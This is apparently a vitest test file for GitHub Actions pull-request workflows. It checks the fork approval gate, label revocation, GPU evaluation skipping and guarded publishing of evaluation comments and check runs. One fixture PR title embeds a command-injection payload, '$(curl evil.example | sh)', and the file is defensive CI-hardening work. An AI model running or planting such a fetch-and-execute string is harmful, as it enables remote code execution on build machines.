// The pull-request workflows driven through the runner harness with real event payloads: the
// gate (same repository → run; fork → only with the approval label applied by the event), the GPU
// job skipped when refused, the label removed again on a new push to a fork, and the workflow_run
// follow-up running the built publish-evaluation action against the GitHub stand-in: one comment
// per model, edited rather than duplicated on the second push, and one check run per model.

import { cp, mkdir, mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, inject, it } from 'vitest';
import { parse, stringify } from 'yaml';
import { evaluationMarker } from '../../pipeline/github/body.ts';
import { assertStandInClean, DEFAULT_TOKEN, startGitHubStandIn, useGitHubStandIn, type GitHubStandIn } from '../support/github/index.ts';
import { eventRepository, prepareCheckout, runWorkflowJob, type JobRun } from '../support/runner/index.ts';
import { evaluationReport, writeReport } from './publish-fixtures.ts';

const REPO = 'skin-twin/skin-twin-mlops';
const HEAD = 'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa';
const HEAD2 = 'bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb';
const APPROVAL = 'safe-to-evaluate';

let checkout: string;
let scratch: string;

beforeAll(async () => {
  expect(inject('buildError')).toBe('');
  checkout = await prepareCheckout('pr-evaluate-');
  scratch = await mkdtemp(join(tmpdir(), 'pr-evaluate-artifact-'));
});

afterAll(async () => {
  await rm(checkout, { recursive: true, force: true });
  await rm(scratch, { recursive: true, force: true });
});

interface PrOptions {
  action: 'opened' | 'synchronize' | 'reopened' | 'labeled';
  number?: number;
  fork?: boolean;
  head?: string;
  labels?: string[];
  /** The label a `labeled` event applied. */
  label?: string;
}

/** A pull_request / pull_request_target payload as GitHub delivers it (the fields the workflows read, and their neighbours). */
function pullRequestEvent(o: PrOptions) {
  const base = eventRepository();
  const head = o.fork ? { ...eventRepository({ owner: 'mallory', name: 'skin-twin-mlops' }), fork: true } : base;
  const number = o.number ?? 7;
  const label = (name: string) => ({ id: name.length, node_id: `LA_${name}`, url: `https://api.github.com/repos/${REPO}/labels/${name}`, name, color: 'ededed', default: false, description: null });
  const sender = { login: o.action === 'labeled' ? 'maintainer' : o.fork ? 'mallory' : 'mona', id: 583231, type: 'User' };
  return {
    action: o.action,
    number,
    ...(o.label ? { label: label(o.label) } : {}),
    ...(o.action === 'synchronize' ? { before: HEAD, after: o.head ?? HEAD2 } : {}),
    pull_request: {
      url: `https://api.github.com/repos/${REPO}/pulls/${number}`,
      number,
      state: 'open',
      title: 'Retrain the skin-type head; $(curl evil.example | sh)',
      user: { login: o.fork ? 'mallory' : 'mona', id: 1, type: 'User' },
      labels: (o.labels ?? []).map(label),
      head: { label: `${head.owner.login}:feature`, ref: 'feature', sha: o.head ?? HEAD, repo: head, user: head.owner },
      base: { label: `${base.owner.login}:main`, ref: 'main', sha: 'c'.repeat(40), repo: base, user: base.owner },
    },
    repository: base,
    sender,
  };
}

/** A workflow_run (completed) payload for a pr-evaluate run on `headSha`. */
function workflowRunEvent(o: { headSha: string; pr: number; fork?: boolean; conclusion?: string; runId?: number }) {
  const base = eventRepository();
  return {
    action: 'completed',
    workflow_run: {
      id: o.runId ?? 30433642,
      name: 'pr-evaluate',
      event: 'pull_request',
      status: 'completed',
      conclusion: o.conclusion ?? 'success',
      head_sha: o.headSha,
      head_branch: 'feature',
      html_url: `https://github.com/${REPO}/actions/runs/${o.runId ?? 30433642}`,
      // GitHub lists no pull request on runs from a fork.
      pull_requests: o.fork ? [] : [{ number: o.pr, head: { ref: 'feature', sha: o.headSha }, base: { ref: 'main', sha: 'c'.repeat(40) } }],
      head_repository: o.fork ? eventRepository({ owner: 'mallory', name: 'skin-twin-mlops' }) : base,
      repository: base,
    },
    workflow: { id: 161335, name: 'pr-evaluate', path: '.github/workflows/pr-evaluate.yml' },
    repository: base,
    sender: { login: 'mona', id: 583231, type: 'User' },
  };
}

/**
 * A copy of a workflow in the checkout where the steps of third-party actions the job executor
 * cannot run (artifact upload/download) and the GPU pipeline run are replaced by `run:` stand-ins.
 */
async function withStandInSteps(file: string, job: string, replace: Record<string, string>, variant = 'a'): Promise<string> {
  const doc = parse(await readFile(join(checkout, '.github/workflows', file), 'utf8'));
  const steps = doc.jobs[job].steps as Record<string, unknown>[];
  doc.jobs[job].steps = steps.map((step) => {
    const key = Object.keys(replace).find((k) => step.name === k || String(step.uses ?? '').startsWith(k));
    if (!key) return step;
    const { uses: _uses, with: _with, run: _run, ...rest } = step;
    return { ...rest, run: replace[key] };
  });
  const out = `.github/workflows/stand-in-${variant}-${job}-${file}`;
  await writeFile(join(checkout, out), stringify(doc));
  return out;
}

function gate(event: ReturnType<typeof pullRequestEvent>): Promise<JobRun> {
  return runWorkflowJob({ workflowFile: '.github/workflows/pr-evaluate.yml', job: 'gate', eventName: 'pull_request', eventPayload: event, cwd: checkout });
}

describe('pr-evaluate: the gate', () => {
  it('evaluates a pull request from this repository on open and push', async () => {
    for (const action of ['opened', 'synchronize', 'reopened'] as const) {
      const run = await gate(pullRequestEvent({ action }));
      expect(run.status).toBe('success');
      expect(run.outputs, action).toMatchObject({ run: 'true', reason: 'pull request from this repository' });
    }
  });

  it('refuses a fork pull request without the approval label, even when the label is still on it', async () => {
    const cases: PrOptions[] = [{ action: 'opened' }, { action: 'synchronize', labels: [APPROVAL] }, { action: 'labeled', label: 'bug', labels: ['bug', APPROVAL] }];
    for (const o of cases) {
      const run = await gate(pullRequestEvent({ fork: true, ...o }));
      expect(run.outputs.run, JSON.stringify(o)).toBe('false');
    }
    const run = await gate(pullRequestEvent({ action: 'opened', fork: true }));
    expect(run.outputs.reason).toMatch(/a maintainer must review the code and apply the label safe-to-evaluate/);
    expect(run.summary).toMatch(/Evaluate: \*\*false\*\*/);
  });

  it('evaluates a fork pull request when a maintainer applies the approval label', async () => {
    const run = await gate(pullRequestEvent({ action: 'labeled', fork: true, label: APPROVAL, labels: [APPROVAL] }));
    expect(run.outputs).toMatchObject({ run: 'true', reason: 'fork pull request approved by a maintainer (label safe-to-evaluate)' });
  });

  it('does not evaluate again when some other label is applied to a same-repository pull request', async () => {
    const run = await gate(pullRequestEvent({ action: 'labeled', label: 'documentation' }));
    expect(run.outputs.run).toBe('false');
  });
});

describe('pr-evaluate: the GPU evaluation job', () => {
  let workflow: string;
  beforeAll(async () => {
    const artifact = join(scratch, 'uploaded');
    workflow = await withStandInSteps('pr-evaluate.yml', 'evaluate', {
      // The GPU pipeline run: the evaluate stage's reports, as it writes them.
      'Reproduce the pipeline': 'cp -r "$FIXTURE_REPORTS/." reports/',
      'actions/upload-artifact@': `rm -rf "${artifact}" && cp -r reports "${artifact}"`,
    });
  });

  const evaluate = (event: ReturnType<typeof pullRequestEvent>, decision: string) =>
    runWorkflowJob({
      workflowFile: workflow,
      job: 'evaluate',
      eventName: 'pull_request',
      eventPayload: event,
      cwd: checkout,
      needs: { gate: { result: 'success', outputs: { run: decision } } },
      env: { FIXTURE_REPORTS: join(scratch, 'fixture-reports') },
    });

  it('is skipped for a refused fork pull request: nothing runs on the self-hosted runner', async () => {
    const run = await evaluate(pullRequestEvent({ action: 'opened', fork: true }), 'false');
    expect(run.steps).toEqual([]);
    // The job's own condition refuses a fork even if the gate said otherwise.
    expect((await evaluate(pullRequestEvent({ action: 'synchronize', fork: true, labels: [APPROVAL] }), 'true')).steps).toEqual([]);
  });

  it('runs for an approved fork and uploads the reports with the pull request and head they belong to', async () => {
    await writeReport(join(scratch, 'fixture-reports'), evaluationReport('skin-type', 'pass'), '## skin-type\n');
    const run = await evaluate(pullRequestEvent({ action: 'labeled', fork: true, label: APPROVAL, labels: [APPROVAL], number: 12, head: HEAD }), 'true');
    expect(run.status, run.steps.map((s) => s.stderr).join('\n')).toBe('success');
    const meta = JSON.parse(await readFile(join(scratch, 'uploaded', 'pull-request.json'), 'utf8'));
    expect(meta).toEqual({ format: 'skintwin-pr-evaluation', version: 1, pr: 12, headSha: HEAD });
    expect(run.summary).toContain('## skin-type');
  });

  it('still uploads the reports that exist when a stage of the pipeline fails', async () => {
    const failing = await withStandInSteps(
      'pr-evaluate.yml',
      'evaluate',
      {
        'Reproduce the pipeline': 'cp -r "$FIXTURE_REPORTS/." reports/ && echo "train-detector failed" >&2 && exit 1',
        'actions/upload-artifact@': `rm -rf "${join(scratch, 'uploaded')}" && cp -r reports "${join(scratch, 'uploaded')}"`,
      },
      'failing',
    );
    await writeReport(join(scratch, 'fixture-reports'), evaluationReport('skin-type', 'pass'), '## skin-type\n');
    const run = await runWorkflowJob({
      workflowFile: failing,
      job: 'evaluate',
      eventName: 'pull_request',
      eventPayload: pullRequestEvent({ action: 'synchronize', number: 5, head: HEAD2 }),
      cwd: checkout,
      needs: { gate: { result: 'success', outputs: { run: 'true' } } },
      env: { FIXTURE_REPORTS: join(scratch, 'fixture-reports') },
    });
    expect(run.status).toBe('failure');
    expect(run.steps.map((s) => s.outcome).slice(-3)).toEqual(['success', 'success', 'success']);
    expect(JSON.parse(await readFile(join(scratch, 'uploaded', 'pull-request.json'), 'utf8'))).toMatchObject({ pr: 5, headSha: HEAD2 });
  });
});

describe('pr-evaluate: a new push to a fork removes the approval label', () => {
  const gh = useGitHubStandIn();

  const revoke = (event: ReturnType<typeof pullRequestEvent>) =>
    runWorkflowJob({ workflowFile: '.github/workflows/pr-evaluate.yml', job: 'revoke-approval', eventName: 'pull_request_target', eventPayload: event, cwd: checkout, githubApiUrl: gh().apiUrl, token: DEFAULT_TOKEN });

  it('removes safe-to-evaluate from a fork pull request on synchronize, and only that label', async () => {
    const pr = gh().state.seedIssue({ title: 'fork PR', labels: [APPROVAL, 'models'] });
    const run = await revoke(pullRequestEvent({ action: 'synchronize', fork: true, number: pr.number, labels: [APPROVAL, 'models'] }));
    expect(run.status, run.steps.map((s) => s.stdout + s.stderr).join('\n')).toBe('success');
    expect(gh().state.issues.get(pr.number)!.labels).toEqual(['models']);
    expect(gh().callCount('issues/remove-label')).toBe(1);
    // Pushed again before anyone re-approved: nothing to remove, and that is fine.
    const again = await revoke(pullRequestEvent({ action: 'synchronize', fork: true, number: pr.number }));
    expect(again.status).toBe('success');
    expect(again.steps[0]!.stdout).toMatch(/was not applied: nothing to remove/);
  });

  it('leaves a same-repository pull request alone', async () => {
    const pr = gh().state.seedIssue({ title: 'own PR', labels: [APPROVAL] });
    const run = await revoke(pullRequestEvent({ action: 'synchronize', number: pr.number, labels: [APPROVAL] }));
    expect(run.steps).toEqual([]);
    expect(gh().state.issues.get(pr.number)!.labels).toEqual([APPROVAL]);
    expect(gh().callCount('issues/remove-label')).toBe(0);
  });
});

describe('pr-evaluate-report: publishing from the workflow_run follow-up', () => {
  const gh = useGitHubStandIn();
  let workflow: string;
  const artifact = () => join(scratch, 'artifact');

  beforeAll(async () => {
    workflow = await withStandInSteps('pr-evaluate-report.yml', 'publish', {
      // The artifact of the evaluation run, as download-artifact leaves it (absent: the step fails).
      'actions/download-artifact@': `test -d "$ARTIFACT" && mkdir -p "$RUNNER_TEMP/pr-evaluation" && cp -r "$ARTIFACT/." "$RUNNER_TEMP/pr-evaluation/"`,
    });
  });

  async function uploadArtifact(pr: number, headSha: string, skinAccuracy: number): Promise<void> {
    await rm(artifact(), { recursive: true, force: true });
    await mkdir(artifact(), { recursive: true });
    await writeReport(artifact(), evaluationReport('skin-type', skinAccuracy >= 0.8 ? 'pass' : 'fail', skinAccuracy), `## skin-type\n\naccuracy ${skinAccuracy}\n`);
    await writeReport(artifact(), evaluationReport('context-correction', 'pass'));
    await writeFile(join(artifact(), 'pull-request.json'), JSON.stringify({ format: 'skintwin-pr-evaluation', version: 1, pr, headSha }));
  }

  const publish = (event: ReturnType<typeof workflowRunEvent>) =>
    runWorkflowJob({
      workflowFile: workflow,
      job: 'publish',
      eventName: 'workflow_run',
      eventPayload: event,
      cwd: checkout,
      githubApiUrl: gh().apiUrl,
      token: DEFAULT_TOKEN,
      env: { ARTIFACT: artifact() },
    });

  const failures = (run: JobRun) => run.steps.map((s) => `${s.name}: ${s.stdout}${s.stderr}`).join('\n');

  it('posts one comment per model, edits them on the second push, and adds a check run per model and head', async () => {
    const pr = gh().state.seedIssue({ title: 'Retrain the skin-type head' });
    await uploadArtifact(pr.number, HEAD, 0.7);
    const first = await publish(workflowRunEvent({ headSha: HEAD, pr: pr.number }));
    expect(first.status, failures(first)).toBe('success');
    const step = first.steps.find((s) => s.name === 'Publish the evaluation')!;
    expect(JSON.parse(step.outputs.verdicts!)).toEqual({ 'context-correction': 'pass', 'skin-type': 'fail' });
    expect(step.outputs['pull-request']).toBe(String(pr.number));
    const comments = gh().state.commentsOf(pr.number);
    expect(comments.map((c) => c.body.split('\n')[0]).sort()).toEqual([evaluationMarker('context-correction'), evaluationMarker('skin-type')]);
    expect(comments.find((c) => c.body.startsWith(evaluationMarker('skin-type')))!.body).toContain(`https://github.com/${REPO}/actions/runs/30433642#artifacts`);
    expect(first.summary).toMatch(/\| accuracy \| 0\.7000 \|/);
    const checks = () => [...gh().state.checkRuns.values()].map((r) => `${r.name} ${r.head_sha.slice(0, 1)} ${r.conclusion}`).sort();
    expect(checks()).toEqual(['evaluate / context-correction a success', 'evaluate / skin-type a failure']);

    // Second push: a new head, better numbers.
    await uploadArtifact(pr.number, HEAD2, 0.93);
    const second = await publish(workflowRunEvent({ headSha: HEAD2, pr: pr.number, runId: 30433700 }));
    expect(second.status, failures(second)).toBe('success');
    const after = gh().state.commentsOf(pr.number);
    expect(after.map((c) => c.id)).toEqual(comments.map((c) => c.id));
    expect(after.find((c) => c.body.startsWith(evaluationMarker('skin-type')))!.body).toMatch(/\| accuracy \| 0\.9300 \|/);
    expect(gh().callCount('issues/create-comment')).toBe(2);
    expect(checks()).toEqual([
      'evaluate / context-correction a success',
      'evaluate / context-correction b success',
      'evaluate / skin-type a failure',
      'evaluate / skin-type b success',
    ]);
  });

  it('refuses reports whose pull-request.json names another pull request or head, and posts nothing', async () => {
    const pr = gh().state.seedIssue({ title: 'victim' });
    const other = gh().state.seedIssue({ title: 'the run’s own PR' });
    await uploadArtifact(pr.number, HEAD, 0.9);
    const run = await publish(workflowRunEvent({ headSha: HEAD, pr: other.number }));
    expect(run.status).toBe('failure');
    const step = run.steps.find((s) => s.name === 'Publish the evaluation')!;
    expect(step.annotations.map((a) => a.message).join('\n')).toMatch(new RegExp(`pull-request\\.json: names #${pr.number}, but the run belongs to #${other.number}: refusing to publish`));
    await uploadArtifact(other.number, HEAD2, 0.9);
    const stale = await publish(workflowRunEvent({ headSha: HEAD, pr: other.number }));
    expect(stale.status).toBe('failure');
    expect(gh().callCount('issues/create-comment')).toBe(0);
    expect(gh().callCount('checks/create')).toBe(0);
  });

  it('without an artifact (the gate refused) posts nothing and says so', async () => {
    await rm(artifact(), { recursive: true, force: true });
    const run = await publish(workflowRunEvent({ headSha: HEAD, pr: 1 }));
    expect(run.status).toBe('success');
    expect(run.steps.find((s) => s.name === 'Publish the evaluation')!.outcome).toBe('skipped');
    expect(run.summary).toMatch(/nothing published/);
    expect(gh().calledOperations()).toEqual([]);
  });

  it('does not run for the label-removal run (pull_request_target) nor for a cancelled run', async () => {
    const target = { ...workflowRunEvent({ headSha: HEAD, pr: 1 }) };
    target.workflow_run = { ...target.workflow_run, event: 'pull_request_target' };
    expect((await publish(target)).steps).toEqual([]);
    expect((await publish(workflowRunEvent({ headSha: HEAD, pr: 1, conclusion: 'cancelled' }))).steps).toEqual([]);
  });
});

describe('pr-evaluate-report: a fork pull request (GitHub lists no pull request on the run)', () => {
  // GitHub's GET /pulls/{n}, answered with the description's own example (checked against the
  // description like every response), with the head this test needs.
  let gh: GitHubStandIn;
  beforeEach(async () => {
    gh = await startGitHubStandIn();
  });
  afterEach(async () => {
    try {
      assertStandInClean(gh);
    } finally {
      await gh.close();
    }
  });

  function answerPullRequest(headSha: string): void {
    gh.setHandler('pulls/get', (ctx) => {
      const example = gh.contract.example<{ number: number; head: { sha: string } }>('pull-request');
      // The example's requested_teams predates the team `type` the description now requires.
      return { status: 200, body: { ...example, requested_teams: [], number: Number(ctx.params['pull_number']), head: { ...example.head, sha: headSha } } };
    });
  }

  async function publishFork(pr: number, evaluated: string): Promise<JobRun> {
    const artifact = join(scratch, 'fork-artifact');
    await rm(artifact, { recursive: true, force: true });
    await writeReport(artifact, evaluationReport('skin-type', 'pass'));
    await writeFile(join(artifact, 'pull-request.json'), JSON.stringify({ format: 'skintwin-pr-evaluation', version: 1, pr, headSha: evaluated }));
    const workflow = await withStandInSteps(
      'pr-evaluate-report.yml',
      'publish',
      { 'actions/download-artifact@': `mkdir -p "$RUNNER_TEMP/pr-evaluation" && cp -r "$ARTIFACT/." "$RUNNER_TEMP/pr-evaluation/"` },
      'fork',
    );
    return runWorkflowJob({
      workflowFile: workflow,
      job: 'publish',
      eventName: 'workflow_run',
      eventPayload: workflowRunEvent({ headSha: evaluated, pr, fork: true }),
      cwd: checkout,
      githubApiUrl: gh.apiUrl,
      token: DEFAULT_TOKEN,
      env: { ARTIFACT: artifact },
    });
  }

  it('publishes once the API confirms the pull request’s head is the evaluated commit', async () => {
    const pr = gh.state.seedIssue({ title: 'fork PR' });
    answerPullRequest(HEAD);
    const run = await publishFork(pr.number, HEAD);
    expect(run.status, run.steps.map((s) => s.stdout + s.stderr).join('\n')).toBe('success');
    expect(gh.callCount('pulls/get')).toBe(1);
    expect(gh.state.commentsOf(pr.number)).toHaveLength(1);
    expect([...gh.state.checkRuns.values()].map((r) => [r.name, r.head_sha])).toEqual([['evaluate / skin-type', HEAD]]);
  });

  it('refuses when the pull request named by the artifact has another head', async () => {
    const victim = gh.state.seedIssue({ title: 'someone else’s PR' });
    answerPullRequest(HEAD2);
    const run = await publishFork(victim.number, HEAD);
    expect(run.status).toBe('failure');
    const step = run.steps.find((s) => s.name === 'Publish the evaluation')!;
    expect(step.annotations.map((a) => a.message).join('\n')).toMatch(new RegExp(`names #${victim.number}, whose head is b{40}, not the evaluated a{40}: refusing to publish`));
    expect(gh.callCount('issues/create-comment')).toBe(0);
    expect(gh.callCount('checks/create')).toBe(0);
  });
});

describe('pr-evaluate workflows: what must hold of the files themselves', () => {
  it('the GPU job may only read, checks out the approved head, and the publishing workflow never checks out pull request code', async () => {
    const pr = parse(await readFile(join(checkout, '.github/workflows/pr-evaluate.yml'), 'utf8'));
    expect(pr.permissions).toEqual({});
    expect(pr.jobs.evaluate['runs-on']).toEqual(['self-hosted', 'linux', 'gpu']);
    expect(pr.jobs.evaluate.permissions).toEqual({ contents: 'read' });
    expect(pr.jobs.evaluate.steps[0].with.ref).toBe('${{ github.event.pull_request.head.sha }}');
    expect(pr.jobs['revoke-approval'].steps.some((s: { uses?: string }) => s.uses)).toBe(false);
    const report = parse(await readFile(join(checkout, '.github/workflows/pr-evaluate-report.yml'), 'utf8'));
    const checkoutStep = report.jobs.publish.steps.find((s: { uses?: string }) => s.uses?.startsWith('actions/checkout@'));
    expect(checkoutStep.with.ref).toBe('${{ github.event.repository.default_branch }}');
    expect(JSON.stringify(report)).not.toMatch(/head_sha\s*}}|head_branch|pull_request\.head/);
    expect(report.jobs.publish.permissions).toEqual({ actions: 'read', checks: 'write', issues: 'write', 'pull-requests': 'write' });
  });
});
